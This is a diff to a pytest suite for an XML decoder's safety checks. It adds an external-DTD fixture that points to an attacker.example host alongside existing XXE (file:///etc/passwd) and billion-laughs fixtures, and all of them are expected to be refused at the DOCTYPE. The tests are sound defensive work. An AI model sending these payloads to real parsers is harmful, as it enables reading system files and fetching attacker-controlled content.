@@ -379,6 +379,11 @@ XXE = b"""<?xml version="1.0"?>
 <!DOCTYPE result [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
 <result><error>&xxe;</error><calls/><total_calls>&xxe;</total_calls></result>
 """
+# An external DTD, which some parsers fetch: refused at the DOCTYPE like the others.
+EXTERNAL_DTD = b"""<?xml version="1.0"?>
+<!DOCTYPE result SYSTEM "http://attacker.example/evil.dtd">
+<result><calls/><total_calls>1</total_calls></result>
+"""
 
 
 @pytest.mark.parametrize(
@@ -582,7 +587,9 @@ def test_list_where_a_list_of_events_is_not_a_list() -> None:
 # --- XML safety ----------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE], ids=["billion-laughs", "xxe"])
+@pytest.mark.parametrize(
+    "body", [BILLION_LAUGHS, XXE, EXTERNAL_DTD], ids=["billion-laughs", "xxe", "external-dtd"]
+)
 def test_dtd_is_refused_before_any_entity_is_expanded(body: bytes) -> None:
     started = time.perf_counter()
     with pytest.raises(DecodeError, match="document type declaration is refused") as info:
